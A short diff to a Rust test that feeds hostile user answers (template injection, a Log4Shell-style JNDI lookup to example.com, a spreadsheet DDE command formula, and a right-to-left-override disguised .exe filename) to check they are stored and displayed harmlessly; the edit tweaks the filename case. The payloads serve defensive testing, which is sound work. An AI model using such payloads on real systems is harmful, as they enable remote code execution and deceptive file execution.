@@ -92,7 +92,7 @@ async fn hostile_answers_are_stored_and_shown_harmlessly() {
         "{{ site.name }}{% raw %}",
         "${jndi:ldap://example.com/a}",
         "=cmd|' /C calc'!A0",
-        "\u{202e}gnp.exe",
+        "photo\u{202e}gnp.exe",
         "Zalgo\u{0315}\u{031b}\u{0321}",
         "👩‍🔬🧪",
     ] {
